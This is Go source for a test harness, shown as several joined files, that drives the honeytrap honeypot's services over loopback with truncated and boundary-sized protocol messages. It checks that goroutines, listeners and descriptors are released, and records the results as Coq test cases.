			stray = append(stray, hx.B(sstr("")), hx.B(cat(be32(5), []byte("ab"))), hx.B(cat(be32(0xffffffff), []byte("ab"))), hx.B(cat(sstr("x"), be32(1<<31))))
			for i := 0; i < 6; i++ {
				stray = append(stray, hx.B(r.Bytes(r.Range(0, 12))))
			}
			for _, pls := range [][]hx.B{prefixes(sstr("LANG", "C")), prefixes(sstr("", "ls -la")), stray} {
				ins = append(ins, Input{Svc: "ssh-simulator", Proto: "tcp", N: 1, Kind: "sweep", Sweep: &SweepIn{Svc: "ssh-simulator", Scenario: 3, N: 1, Req: req, Payloads: pls}})
			}
		}
		for _, silent := range []bool{false, true} {
			ins = append(ins, Input{Svc: "ssh-simulator", Proto: "tcp", N: 2, Kind: "sweep", Sweep: &SweepIn{Svc: "ssh-simulator", Scenario: 4, Silent: silent, N: 2}})
		}
		for _, rp := range []struct {
			req string
			pl  []byte
		}{
			{"subsystem", sstr("sftp")},
			{"tcpip-forward", cat(sstr("0.0.0.0"), be32(8080))},
			{"pty-req", cat(sstr("xterm"), be32(80), be32(24), be32(0), be32(0), sstr(""))},
			{"window-change", cat(be32(80), be32(24), be32(0), be32(0))},
			{"x11-req", cat([]byte{0}, sstr("MIT-MAGIC-COOKIE-1"), sstr("00"), be32(0))},
			{"no-such-type", sstr("x")},
		} {
			req, pl := rp.req, rp.pl
			ins = append(ins, Input{Svc: "ssh-simulator", Proto: "tcp", N: 1, Kind: "sweep", Sweep: &SweepIn{Svc: "ssh-simulator", Scenario: 3, N: 1, Req: req, Payloads: prefixes(pl)}})
		}
		// length-structured protocols cut at every position of valid samples (one connection per
		// prefix, closed after it; and once more with a client that goes silent after it)
		for _, sv := range []string{"ipp", "redis", "ldap", "snmp", "memcached"} {
			pls := cutScripts(sv)
			for _, silent := range []bool{false, true} {
				if silent && sv == "snmp" {
					continue
				}
				ins = append(ins, Input{Svc: sv, Proto: "tcp", N: len(pls), Kind: "sweep", Sweep: &SweepIn{Svc: sv, Scenario: 10, Silent: silent, N: len(pls), Payloads: pls}})
			}
		}
		// the services that relay to a backend, against backends that refuse / stay silent /
		// close early / reset / answer; a silent backend is waited for up to the proxies' own
		// 30 s deadline: beside the pool
		for _, kind := range proxyKinds {
			for bk := range proxyBackends {
				for _, silent := range []bool{false, true} {
					if silent && (strings.HasSuffix(kind, "/udp") || bk != 1 && bk != 4) {
						continue
					}
					if strings.HasSuffix(kind, "/udp") && (bk == 2 || bk == 3) {
						continue // a datagram backend cannot close or reset: same as silent
					}
					n := 3
					if bk == 1 {
						n = 1 // every session waits out the proxy's 30 s for its backend
					}
					ins = append(ins, Input{Svc: "proxy", Proto: "tcp", N: n, Kind: "sweep", Slow: bk == 1,
						Sweep: &SweepIn{Svc: "proxy:" + kind, Scenario: bk, Silent: silent, N: n}})
				}
			}
		}
		// terminal modes as a dimension of the buffer-filling input: inside a bracketed paste, after
		// an IAC negotiation, in password (no-echo) mode - telnet and the ssh shell
		for mode := 1; mode <= 3; mode++ {
			for _, shape := range []int{0, 1, 3, 4, 6} {
				ins = append(ins, Input{Svc: "telnet", Proto: "tcp", N: 2, Kind: "sweep", Sweep: &SweepIn{Svc: "telnet", Scenario: mode*100 + shape, N: 2}})
			}
			ins = append(ins, Input{Svc: "telnet", Proto: "tcp", N: 1, Kind: "sweep", Sweep: &SweepIn{Svc: "telnet", Scenario: mode*100 + 6, Silent: true, N: 1}})
		}
		ins = append(ins, Input{Svc: "telnet", Proto: "tcp", N: 2, Kind: "sweep", Sweep: &SweepIn{Svc: "telnet", Scenario: 6, N: 2}})
		for mode := 0; mode <= 2; mode++ {
			for _, shape := range []int{0, 6} {
				if mode == 0 && shape == 0 {
					continue // that is scenario 4 without Req
				}
				ins = append(ins, Input{Svc: "ssh-simulator", Proto: "tcp", N: 1, Kind: "sweep", Sweep: &SweepIn{Svc: "ssh-simulator", Scenario: 4, N: 1, Req: fmt.Sprintf("%d,%d", mode, shape)}})
			}
		}
		// tftp uploads of every length around the block size; the upload state must be released
		ins = append(ins, Input{Svc: "tftp-upload", Proto: "udp", N: len(tftpUploadLengths), Kind: "sweep", Sweep: &SweepIn{Svc: "tftp-upload", Scenario: 30, N: len(tftpUploadLengths)}})
		// the real server: recovered panics and a shared port with silent clients (waits out the
		// server's own 30 s idle timeout: beside the pool)
		ins = append(ins, Input{Svc: "deploy", Proto: "tcp", N: len(deploySteps()), Kind: "sweep", Slow: true, Sweep: &SweepIn{Svc: "deploy", Scenario: 20, N: len(deploySteps())}})
		// the boundary-size datagrams through the real server and its socket listener (in the pool)
		ins = append(ins, Input{Svc: "deploy-udp", Proto: "udp", N: len(deployUDPServices) + 1, Kind: "sweep", Sweep: &SweepIn{Svc: "deploy-udp", Scenario: 21, N: len(deployUDPServices) + 1}})
		// the ftp data channel in every mode; the scenarios that wait out the 30 s passive-socket
		// timeout sleep most of the time and run beside the worker pool
		for _, sv := range []string{"ftp-data-plain", "ftp-data-tls"} {
			for sc := 0; sc < ftpDataScenarios; sc++ {
				ins = append(ins, Input{Svc: sv, Proto: "tcp", N: 1, Kind: "sweep", Slow: ftpDataSlow(sc, sv == "ftp-data-tls"),
					Sweep: &SweepIn{Svc: sv, Scenario: sc, N: 1}})
			}
		}
	}
	if os.Getenv("C09_ONLY_DGRAM") != "" { // development aid: part "dgram" alone
		ins = nil
	}
	if os.Getenv("C09_SKIP_DGRAM") != "" { // development aid: timing comparison
		dgIns = nil
	}
	// the bounded wait only has to separate "comes back" from "never comes back": generous, so
	// that a loaded machine cannot turn a slow handler into a hanging one (it costs time only
	// when something does hang); everything else is compared as counts, never as durations
	deadline, wait := 60, 8000
	if o.Tier == "thorough" {
		deadline, wait = 100, 12000
	}
	facts := idleTimeoutFact()
	realDeadlineMs := 30000
	for _, f := range facts {
		if m := regexp.MustCompile(`^time\.Second\s*\*\s*(\d+)$|^(\d+)\s*\*\s*time\.Second$`).FindStringSubmatch(strings.TrimSpace(f)); m != nil {
			fmt.Sscanf(m[1]+m[2], "%d", &realDeadlineMs)
			realDeadlineMs *= 1000
		}
	}
	passiveMs := passiveTimeoutFact()
	perturb := os.Getenv("C09_PERTURB") // sanity testing of the check only
	scratch, err := ioutil.TempDir(o.Out, "c09run")
	if err != nil {
		hx.Fatal("scratch: %v", err)
	}
	defer os.RemoveAll(scratch)
	type result struct {
		res   ChildResult
		crash string
	}
	results := make([]result, len(ins))
	var wg sync.WaitGroup
	sem := make(chan struct{}, 6)
	// part "dgram": one child per service runs all its clusters; in the pool from the start
	dgResults := make([]dgResult, len(dgIns))
	{
		bySvc := map[string][]int{}
		var svcOrder []string
		for i, d := range dgIns {
			if d.Svc == "probe" {
				continue
			}
			if _, ok := bySvc[d.Svc]; !ok {
				svcOrder = append(svcOrder, d.Svc)
			}
			bySvc[d.Svc] = append(bySvc[d.Svc], i)
		}
		for k, sv := range svcOrder {
			wg.Add(1)
			go func(k int, idxs []int) {
				defer wg.Done()
				sem <- struct{}{}
				defer func() { <-sem }()
				var cs []DgramIn
				for _, i := range idxs {
					cs = append(cs, dgIns[i])
				}
				t0 := time.Now()
				rs := runDgramJob(cs, scratch, 100000+k, deadline, wait, perturb)
				if os.Getenv("C09_TIMING") != "" {
					fmt.Fprintf(os.Stderr, "dgram job %s: %d clusters %v\n", cs[0].Svc, len(cs), time.Since(t0).Round(time.Millisecond))
				}
				for j, i := range idxs {
					dgResults[i] = rs[j]
				}
			}(k, bySvc[sv])
		}
	}
	// cases that sleep through a 30 s timer first, beside the pool
	order := make([]int, 0, len(ins))
	for i := range ins {
		if ins[i].Slow || ins[i].Real {
			order = append(order, i)
		}
	}
	for i := range ins {
		if !(ins[i].Slow || ins[i].Real) {
			order = append(order, i)
		}
	}
	for _, i := range order {
		wg.Add(1)
		pooled := !(ins[i].Slow || ins[i].Real)
		if pooled {
			sem <- struct{}{}
		}
		go func(i int, pooled bool) {
			defer wg.Done()
			if pooled {
				defer func() { <-sem }()
			}
			in := ins[i]
			sp := Spec{Svc: in.Svc, Proto: in.Proto, V6: in.V6, Conn: in.Conn, N: in.N, DeadlineMs: deadline, WaitMs: wait, Perturb: perturb, Sweep: in.Sweep}
			if in.Real {
				sp.DeadlineMs, sp.WaitMs = realDeadlineMs, 3*realDeadlineMs
			}
			sp.WaitMs += in.Waits * (passiveMs + 15000)
			if in.Conn.Room != nil {
				// one write deadline per reply at most: replies <= lines + segments (+ banner ...)
				k := 6 + len(in.Conn.Segs)
				for _, sg := range in.Conn.Segs {
					k += bytes.Count(sg, []byte("\n"))
				}
				sp.WaitMs += k * 2 * sp.DeadlineMs
			}
			sp.SettleMs = passiveMs + 4000
			if in.Sweep != nil && in.Slow {
				sp.WaitMs += passiveMs + 15000
			}
			if in.Sweep != nil && strings.HasPrefix(in.Sweep.Svc, "proxy:") && in.Slow {
				sp.WaitMs = 8000 + passiveMs + 2000 // the proxies' own 30 s wait for the backend, and a margin
			}
			if in.Sweep != nil && strings.HasPrefix(in.Sweep.Svc, "proxy:") && in.Sweep.Silent {
				sp.DeadlineMs = 1000 // a silent client of a proxy: the idle deadline ends the relay
			}
			if in.Sweep != nil && in.Sweep.Svc == "deploy" {
				sp.DeadlineMs, sp.WaitMs = realDeadlineMs, 20000 // the server's own idle timeout; generous margin
			}
			if in.Sweep != nil && (strings.HasPrefix(in.Sweep.Svc, "ftp-data") || (in.Sweep.Svc == "ssh-simulator" && in.Sweep.Scenario != 2)) {
				// interactive clients over a pipe: the idle deadline must not bite between two
				// messages of a live dialogue on a loaded machine
				sp.DeadlineMs = 3000
			}
			t0 := time.Now()
			res, crash := runChild(sp, scratch, i)
			if os.Getenv("C09_TIMING") != "" && time.Since(t0) > 2*time.Second {
				fmt.Fprintf(os.Stderr, "slow child %d %s/%s n=%d sweep=%+v: %v\n", i, in.Svc, in.Proto, in.N, in.Sweep, time.Since(t0).Round(time.Millisecond))
			}
			results[i] = result{res, crash}
		}(i, pooled)
	}
	wg.Wait()
	dist := map[string]int{}
	distW := map[string]int{}
	var cases, wcases []hx.Case
	for i, in := range ins {
		res, crash := results[i].res, results[i].crash
		if in.Sweep != nil {
			if crash == "" && res.Err != "" {
				crash = res.Err
			}
			distW["svc:"+in.Sweep.Svc]++
			distW[fmt.Sprintf("silent:%v", in.Sweep.Silent)]++
			if len(res.Conns) > 0 {
				distW["outcome:"+res.Conns[len(res.Conns)-1].Outcome]++
			}
			var os []string
			for _, c := range res.Conns {
				os = append(os, fmt.Sprintf("mkW %d %s %s %s", outCode[c.Outcome], hx.CoqZ(int64(c.Gor)), hx.CoqZ(int64(c.Lis)), hx.CoqZ(int64(c.Fds))))
			}
			id := len(wcases)
			reqCode := map[string]int{"": 0, "env": 1, "exec": 2}[in.Sweep.Req]
			if in.Sweep.Req != "" && reqCode == 0 {
				reqCode = 3
			}
			var pls, lists []string
			for _, pl := range in.Sweep.Payloads {
				pls = append(pls, hx.CoqBytes(pl))
			}
			for _, l := range res.Lists {
				var xs []string
				for _, x := range l {
					xs = append(xs, hx.CoqBytes(x))
				}
				lists = append(lists, hx.CoqList(xs, "bytes"))
			}
			coq := fmt.Sprintf("mkSweep %s %d%%N %d%%N %s %s %s %d%%N %s %s", hx.CoqN(uint64(id)), sweepSvcCode[in.Sweep.Svc], in.Sweep.Scenario, hx.CoqBool(in.Sweep.Silent), hx.CoqN(uint64(in.Sweep.N)), hx.CoqList(os, "wobs"),
				reqCode, hx.CoqList(pls, "bytes"), hx.CoqList(lists, "(list bytes)"))
			if in.Sweep.Req != "" {
				distW["ssh-request:"+in.Sweep.Req] += len(in.Sweep.Payloads)
			}
			wcases = append(wcases, hx.Case{ID: id, Kind: "sweep/" + in.Sweep.Svc, Input: in, Obs: Obs{Conns: res.Conns, Events: res.Events, Lists: res.Lists}, Crash: crash, Coq: coq})
			continue
		}
		if crash == "" && res.Err != "" {
			crash = res.Err
		}
		ob := Obs{Conns: res.Conns, GorGC: res.GorGC, LisGC: res.LisGC, FdsGC: res.FdsGC, Settled: res.Settled, Events: res.Events}
		if in.Slow {
			dist["waits-out-a-passive-socket-timeout"]++
		}
		if in.Conn.Room != nil {
			dist["peer-stops-reading"]++
		}
		dist["svc:"+in.Svc]++
		dist["proto:"+in.Proto]++
		dist["kind:"+in.Kind]++
		if in.Proto == "udp" {
			tot := 0
			for _, sg := range in.Conn.Segs {
				tot += len(sg)
			}
			if tot == 0 {
				dist["zero-length-datagram"]++
			}
		}
		if in.Proto == "tcp" {
			dist["end:"+in.Conn.End]++
		}
		switch {
		case in.N == 1:
			dist["history:1"]++
		case in.N <= 8:
			dist["history:2-8"]++
		case in.N <= 50:
			dist["history:9-50"]++
		default:
			dist["history:51-200"]++
		}
		if len(res.Conns) > 0 {
			dist["outcome:"+res.Conns[len(res.Conns)-1].Outcome]++
		}
		kind := in.Svc + "/" + in.Proto
		cases = append(cases, hx.Case{ID: i, Kind: kind, Input: in, Obs: ob, Crash: crash, Coq: coqCase(i, in, ob)})
	}
	extra := map[string]interface{}{"deadline_ms": deadline, "wait_ms": wait, "idle_timeout_in_server_honeytrap_go": facts, "udp_after_datagram": udpTerm, "ftp_passive_timeout_ms": passiveMs}
	if len(cases) > 0 || o.Only == "" {
		hx.Write(o, "C09", "conn", "From HT Require Import Common.Bytes C09.Model C09.Check.", "case", cases, dist, extra, 40)
	}
	if len(wcases) > 0 {
		hx.Write(o, "C09", "sweep", "From HT Require Import Common.Bytes C09.Sweep.", "case", wcases, distW, nil, 200)
	}
	var dcases []hx.Case
	for i, d := range dgIns {
		id := len(dcases)
		in := Input{Svc: d.Svc, Proto: "udp", N: len(d.Items), Kind: "dgram", Dgram: &dgIns[i]}
		if d.Svc == "probe" {
			obs := runProbe(d)
			dgDist["probe:DummyUDPConn.Read"]++
			dcases = append(dcases, hx.Case{ID: id, Kind: "dgram/probe", Input: in, Obs: obs, Coq: coqProbe(id, d, obs)})
			continue
		}
		r := dgResults[i]
		if !r.run {
			dgDist["not-run-after-handlers-that-did-not-return"]++
			continue
		}
		dgDist["svc:"+d.Svc]++
		for _, ob := range r.obs {
			dgDist["datagrams"]++
			dgDist["via:"+ob.Item.Via]++
			dgDist["content:"+ob.Item.Content]++
			dgDist["outcome:"+ob.Obs.Outcome]++
			if ob.Obs.Relay == 1 {
				dgDist["relayed-whole"]++
			}
			for _, b := range d.Boundaries {
				if b == ob.Item.Size {
					dgDist["exactly-on-a-boundary"]++
				}
			}
		}
		if len(d.FromSource) > 0 {
			dgDist["clusters-with-buffer-sizes-read-from-source"]++
		}
		dcases = append(dcases, hx.Case{ID: id, Kind: "dgram/" + d.Svc, Input: in, Obs: r.obs, Crash: r.crash, Coq: coqDgram(id, d, r.obs)})
	}
	if len(dcases) > 0 {
		hx.Write(o, "C09", "dgram", "From HT Require Import Common.Bytes C09.Model C09.Dgram.", "case", dcases, dgDist, map[string]interface{}{"fixed_boundaries": dgFixed, "library_boundaries": dgLibrary}, 60)
	}
}

// the timeout of ftp passive sockets, read from services/ftp/socket.go
func passiveTimeoutFact() int {
	repo := os.Getenv("VERIF_REPO")
	if repo == "" {
		repo = "/repo"
	}
	b, err := ioutil.ReadFile(filepath.Join(repo, "services", "ftp", "socket.go"))
	if err != nil {
		hx.Fatal("cannot read services/ftp/socket.go: %v", err)
	}
	m := regexp.MustCompile(`passiveTimeout\s*=\s*(\d+)\s*\*\s*time\.Second`).FindSubmatch(b)
	if m == nil {
		return 30000 // no such constant (any more): a socket that is not released shows as a violation
	}
	var n int
	fmt.Sscanf(string(m[1]), "%d", &n)
	return n * 1000
}

// the 30 s constant is read from server/honeytrap.go as a fact (not waited for in the quick tier)
func idleTimeoutFact() []string {
	repo := os.Getenv("VERIF_REPO")
	if repo == "" {
		repo = "/repo"
	}
	b, err := ioutil.ReadFile(filepath.Join(repo, "server", "honeytrap.go"))
	if err != nil {
		hx.Fatal("cannot read server/honeytrap.go: %v", err)
	}
	re := regexp.MustCompile(`TimeoutConn\((\w+), ([^)]*)\)`)
	var out []string
	for _, m := range re.FindAllStringSubmatch(string(b), -1) {
		out = append(out, m[2])
	}
	// none found: the wrapping was moved or renamed (a rewrite, not by itself a violation). The
	// caller then keeps the 30 s the property states; whether idle connections really are released
	// is judged on the observation of the silent-client scenarios, not on this text.
	return out
}
