// Part "sweep", service "deploy-udp": the boundary-size datagrams once more through the REAL
// server - server.New + Run, the socket listener on loopback UDP ports (its own receive
// buffer, its own DummyUDPConn), findService, server.handle with its recover and its 30 s
// TimeoutConn - for every datagram service of the registry, the relaying ones (copy, dns-proxy)
// behind the real "forward" director pointing at a loopback backend of the harness.
// One observation per port: after its datagrams have been taken off the socket (receive queue
// of the port empty in /proc/net/udp) the honeytrap goroutines and the descriptors must come
// back to the baseline; a handler goroutine that stays and burns CPU is a spinning handler.
// A last observation is taken after all ports.
package main

import (
	"fmt"
	"io/ioutil"
	"net"
	"os"
	"sort"
	"strings"
	"time"

	"verif/harness/hx"
	"verif/harness/lab"
)

var deployUDPServices = []string{"ntp", "echo", "dns", "snmp", "tftp", "memcached", "counterstrike", "adb", "ldap", "copy", "dns-proxy"}

var deployUDPSizes = []int{1, 512, 1024, 1025, 1500, 4096, 8192, 32768, 65506, 65507}

// rxQueue returns the receive queue length of the UDP socket bound to the loopback port (-1: no such socket)
func rxQueue(port int) int {
	b, err := ioutil.ReadFile("/proc/self/net/udp")
	if err != nil {
		return -1
	}
	want := fmt.Sprintf(":%04X", port)
	for i, line := range strings.Split(string(b), "\n") {
		fs := strings.Fields(line)
		if i == 0 || len(fs) < 5 || !strings.HasSuffix(fs[1], want) {
			continue
		}
		var tx, rx int
		fmt.Sscanf(fs[4], "%x:%x", &tx, &rx)
		return rx
	}
	return -1
}

func waitTaken(port int) bool {
	for i := 0; i < 5000; i++ {
		if rxQueue(port) == 0 {
			return true
		}
		time.Sleep(time.Millisecond)
	}
	return false
}

func deployUDPSizesFor(svc string, files map[string][]string) []int {
	set := map[int]bool{}
	for _, s := range deployUDPSizes {
		set[s] = true
	}
	for _, b := range bufferSizes(files[svc]) { // generator input only
		set[b] = true
		for _, h := range dgHeadLen[svc] {
			set[b+h] = true
		}
	}
	var out []int
	for s := range set {
		if s >= 1 && s <= 65507 {
			out = append(out, s)
		}
	}
	sort.Ints(out)
	return out
}

func runDeployUDP(sp Spec, scratch string, res *ChildResult, write func()) {
	svcs := deployUDPServices
	ports := lab.FreePorts(len(svcs) + 1)
	bk := startDgBackend()
	var sb strings.Builder
	sb.WriteString("[listener]\ntype=\"socket\"\n\n")
	fmt.Fprintf(&sb, "[director.fwd]\ntype=\"forward\"\nhost=%q\n\n", bk.pc.LocalAddr().String())
	for _, s := range svcs {
		dir := ""
		if dgRelays(s) {
			dir = "director=\"fwd\"\n"
		}
		fmt.Fprintf(&sb, "[service.%s]\ntype=%q\n%s\n", strings.Replace(s, "-", "", -1), s, dir)
	}
	for i, s := range svcs {
		fmt.Fprintf(&sb, "[[port]]\nport=\"udp/127.0.0.1:%d\"\nservices=[%q]\n\n", ports[i], strings.Replace(s, "-", "", -1))
	}
	ready := ports[len(svcs)]
	fmt.Fprintf(&sb, "[[port]]\nport=\"tcp/127.0.0.1:%d\"\nservices=[\"echo\"]\n\n", ready)
	if _, err := lab.StartSocket(sb.String(), scratch, fmt.Sprintf("127.0.0.1:%d", ready)); err != nil {
		hx.Fatal("deploy-udp: %v", err)
	}
	for i := range svcs { // every UDP port must be bound before the first datagram goes out
		ok := false
		for k := 0; k < 5000 && !ok; k++ {
			if ok = rxQueue(ports[i]) >= 0; !ok {
				time.Sleep(time.Millisecond)
			}
		}
		if !ok {
			hx.Fatal("deploy-udp: the server did not bind udp port %d (%s)", ports[i], svcs[i])
		}
	}
	files, _ := serviceSources()
	time.Sleep(100 * time.Millisecond)
	g0 := settle()
	settleBase = g0
	f0, l0 := fdCounts()
	wait := time.Duration(sp.WaitMs) * time.Millisecond
	seq := 0
	measure := func() (ob ConnObs, gone bool) {
		ob.Outcome = "returned"
		g := settle()
		if g > g0 { // a handler still at work: give it the bounded wait, then look at what it does
			limit := time.Now().Add(wait)
			for g > g0 && time.Now().Before(limit) {
				time.Sleep(20 * time.Millisecond)
				g = honeytrapGoroutines()
			}
			if g > g0 {
				c0 := cpuTime()
				busy := 0
				for i := 0; i < 5; i++ {
					time.Sleep(30 * time.Millisecond)
					if handlerRunnable() {
						busy++
					}
				}
				if cpuTime()-c0 > 60*time.Millisecond || busy >= 4 {
					ob.Outcome, gone = "spin", true
				}
			}
		}
		f, l := fdCounts()
		ob.Gor, ob.Lis, ob.Fds = g-g0, l-l0, f-f0
		return
	}
	for i, s := range svcs {
		target := &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1), Port: ports[i]}
		for _, size := range deployUDPSizesFor(s, files) {
			pre, payload := dgramPayload(s, size, "head")
			seq++
			src := &net.UDPAddr{IP: net.IPv4(127, 2, byte(seq/250+1), byte(1+seq%250))}
			c, err := net.DialUDP("udp4", src, target)
			if err != nil {
				if c, err = net.DialUDP("udp4", nil, target); err != nil {
					hx.Fatal("deploy-udp: client socket: %v", err)
				}
			}
			for _, d := range [][]byte{pre, payload} {
				if d == nil {
					continue
				}
				if _, err := c.Write(d); err != nil {
					hx.Fatal("deploy-udp: a loopback socket does not carry %d bytes: %v", len(d), err)
				}
				if !waitTaken(ports[i]) {
					break // the listener does not read any more: shows below
				}
			}
			c.Close()
		}
		ob, gone := measure()
		res.Conns = append(res.Conns, ob)
		if gone {
			write()
			os.RemoveAll(scratch)
			os.Exit(0)
		}
	}
	ob, _ := measure()
	res.Conns = append(res.Conns, ob)
	bk.mu.Lock()
	res.Events = bk.seen // datagrams that reached the backend of the relaying services (evidence that the path is live)
	bk.mu.Unlock()
	write()
}
