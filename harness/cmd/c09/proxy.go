// Part "sweep", service "proxy:<name>/<proto>": the services that relay to a backend (dns-proxy,
// copy, http-proxy) with a director of the harness that dials a loopback backend which
//   0 refuses (closed port), 1 takes the request and stays silent, 2 closes right after the
//   request, 3 resets the connection, 4 answers.
// After every client session the handler must be over and goroutines / descriptors back at the
// baseline: the backend connection belongs to "everything created on the connection's behalf".
package main

import (
	"context"
	"fmt"
	"net"
	"strings"
	"sync"
	"time"

	"github.com/honeytrap/honeytrap/listener"
	"github.com/honeytrap/honeytrap/server"
	"github.com/honeytrap/honeytrap/services"

	"verif/harness/hx"
)

var proxyKinds = []string{"dns-proxy/udp", "dns-proxy/tcp", "copy/udp", "copy/tcp", "http-proxy/tcp"}
var proxyBackends = []string{"refused", "silent", "closes", "resets", "answers"}

// what a backend that holds a connection (or a datagram socket) has open: the harness's own
// descriptors, subtracted from the counts
var (
	bkMu   sync.Mutex
	bkOpen int
)

func bkAdd(n int) { bkMu.Lock(); bkOpen += n; bkMu.Unlock() }

var bkListening int // 1 when the harness's own tcp backend listens

func bkDescriptors() int { bkMu.Lock(); defer bkMu.Unlock(); return bkOpen }
func bkListeners() int   { return 0 }

type harnessDirector struct {
	network, addr string
}

func (d *harnessDirector) Dial(net.Conn) (net.Conn, error) {
	return net.DialTimeout(d.network, d.addr, 5*time.Second)
}

// startBackend starts the backend with the given behaviour and returns its address
func startBackend(network string, behaviour int) string {
	if network == "udp" {
		pc, err := net.ListenPacket("udp", "127.0.0.1:0")
		if err != nil {
			hx.Fatal("backend: %v", err)
		}
		addr := pc.LocalAddr().String()
		if behaviour == 0 {
			pc.Close() // nobody there: ICMP port unreachable -> ECONNREFUSED on the connected socket
			return addr
		}
		go func() { // (the backend's own socket is part of the baseline)
			buf := make([]byte, 65536)
			for {
				n, from, err := pc.ReadFrom(buf)
				if err != nil {
					return
				}
				if behaviour == 4 {
					pc.WriteTo(buf[:n], from) // echo: for dns the query comes back as the answer
				}
			}
		}()
		return addr
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		hx.Fatal("backend: %v", err)
	}
	addr := ln.Addr().String()
	if behaviour == 0 {
		ln.Close()
		return addr
	}
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			bkAdd(1)
			go func(c net.Conn) {
				defer func() { c.Close(); bkAdd(-1) }()
				buf := make([]byte, 65536)
				c.SetReadDeadline(time.Now().Add(2 * time.Second))
				n, _ := c.Read(buf)
				switch behaviour {
				case 1: // silent: holds the connection until the proxy gives up
					c.SetReadDeadline(time.Time{})
					for {
						if _, err := c.Read(buf); err != nil {
							return
						}
					}
				case 2:
					return
				case 3:
					if tc, ok := c.(*net.TCPConn); ok {
						tc.SetLinger(0)
					}
					return
				case 4:
					if strings.HasPrefix(string(buf[:n]), "GET ") {
						c.Write([]byte("HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok"))
					} else {
						c.Write(buf[:n])
					}
					return
				}
			}(c)
		}
	}()
	return addr
}

var dnsQuery = []byte{0x12, 0x34, 0x01, 0x00, 0x00, 0x01, 0, 0, 0, 0, 0, 0, 1, 'x', 0, 0, 1, 0, 1}

func buildProxy(kind string, behaviour int, ch *countChannel) services.Servicer {
	name := kind[:strings.Index(kind, "/")]
	proto := kind[strings.Index(kind, "/")+1:]
	f, ok := services.Get(name)
	if !ok {
		hx.Fatal("service %q is not registered", name)
	}
	d := &harnessDirector{network: proto, addr: startBackend(proto, behaviour)}
	return f(services.WithChannel(ch), services.WithDirector(d))
}

func runProxyConn(svc services.Servicer, sp Spec, idx int) (ob ConnObs, gone bool) {
	kind := strings.TrimPrefix(sp.Sweep.Svc, "proxy:")
	deadline := time.Duration(sp.DeadlineMs) * time.Millisecond
	wait := time.Duration(sp.WaitMs) * time.Millisecond
	lip, rip := connAddrs(sp, idx)
	var payload []byte
	switch {
	case strings.HasPrefix(kind, "dns-proxy/udp"):
		payload = dnsQuery
	case strings.HasPrefix(kind, "dns-proxy/tcp"):
		payload = cat(be16(uint16(len(dnsQuery))), dnsQuery)
	case strings.HasPrefix(kind, "http-proxy"):
		payload = []byte("GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: t\r\n\r\n")
	default:
		payload = []byte("hello backend")
	}
	var base net.Conn
	if strings.HasSuffix(kind, "/udp") {
		rbuf := make([]byte, 65536)
		base = &listener.DummyUDPConn{Buffer: rbuf[:copy(rbuf, payload)], Laddr: &net.UDPAddr{IP: lip, Port: 53}, Raddr: &net.UDPAddr{IP: rip, Port: 40000},
			Fn: func(b []byte, addr *net.UDPAddr) (int, error) { return len(b), nil }}
	} else {
		end := "close"
		if sp.Sweep.Silent {
			end = "silent"
		}
		base = newMemConn(&net.TCPAddr{IP: lip, Port: 80}, &net.TCPAddr{IP: rip, Port: 40000}, [][]byte{payload}, end)
	}
	conn := server.TimeoutConn(base, deadline)
	done := make(chan string, 1)
	go func() {
		p := ""
		defer func() {
			if e := recover(); e != nil {
				p = fmt.Sprint(e)
				if p == "" {
					p = "panic"
				}
			}
			conn.Close()
			done <- p
		}()
		svc.Handle(context.Background(), conn)
	}()
	ob.Outcome, ob.Panic = awaitEnd(done, wait)
	if len(ob.Panic) > 120 {
		ob.Panic = ob.Panic[:120]
	}
	gone = ob.Outcome == "spin" || ob.Outcome == "blocked"
	return
}
