// Part "sweep": services of C01 without a model (vnc, ssh-simulator, ipp), observed only:
// how Handle ends and what the process holds after N sequential connections.
package main

import (
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"io/ioutil"
	"net"
	"strings"
	"sync/atomic"
	"time"

	"github.com/honeytrap/honeytrap/server"
	"github.com/honeytrap/honeytrap/services"
	"golang.org/x/crypto/ssh"

	"verif/harness/hx"
	"verif/harness/lab"
)

type SweepIn struct {
	Svc      string `json:"svc"` // vnc | ssh-simulator | ipp
	Scenario int    `json:"scenario"`
	Silent   bool   `json:"silent"`
	N        int    `json:"n"`
	// ssh-simulator scenario 3: one channel request of type Req per payload, each on a session
	// channel of its own, over one connection
	Req      string `json:"req,omitempty"`
	Payloads []hx.B `json:"payloads,omitempty"`
}

var sweepScenario int // the scenario of the case this child runs (the proxies' backend behaviour)

var sweepSvcCode = map[string]int{"deploy-udp": 18, "tftp-upload": 17, "proxy:dns-proxy/udp": 12, "proxy:dns-proxy/tcp": 13, "proxy:copy/udp": 14, "proxy:copy/tcp": 15, "proxy:http-proxy/tcp": 16,
	"vnc": 1, "ssh-simulator": 2, "ipp": 3, "ftp-data-plain": 4, "ftp-data-tls": 5, "deploy": 6,
	"redis": 7, "ldap": 8, "snmp": 9, "memcached": 10, "telnet": 11}

func be16(v uint16) []byte { b := make([]byte, 2); binary.BigEndian.PutUint16(b, v); return b }
func be32(v uint32) []byte { b := make([]byte, 4); binary.BigEndian.PutUint32(b, v); return b }

func cat(parts ...[]byte) []byte {
	var o []byte
	for _, p := range parts {
		o = append(o, p...)
	}
	return o
}

func vncScript(sc int) [][]byte { s, _ := vncScriptPaced(sc); return s }

// the script and the index of the segment before which the client pauses (-1: no pause)
func vncScriptPaced(sc int) ([][]byte, int) {
	hs := [][]byte{[]byte("RFB 003.008\n"), {1}, {1}}
	upd := func(incr byte) []byte { return cat([]byte{3, incr}, be16(0), be16(0), be16(8), be16(8)) }
	switch sc {
	case 0:
		return hs, -1
	case 1: // encodings, three full updates (starts the frame pusher), pointer and key events
		return append(hs, cat([]byte{2, 0}, be16(1), be32(0)), upd(0), upd(0), upd(0), cat([]byte{5, 1}, be16(3), be16(4)), cat([]byte{4, 1, 0, 0}, be32(0x61))), -1
	case 2:
		return [][]byte{[]byte("RFB 003.008\n")}, -1
	case 3:
		return append(hs, upd(1), upd(1), upd(1), upd(1), upd(1)), -1
	case 4: // cut inside a message
		return append(hs, []byte{3, 0, 0}), -1
	case 5, 6, 7:
		// 5: SetPixelFormat with true-colour = 0 (the frame pusher gives up on the first frame),
		//    then 140 full update requests pipelined in ONE write - more than the 128-slot queue
		// 6: the same, one write per request, the client pausing after the first request (by then
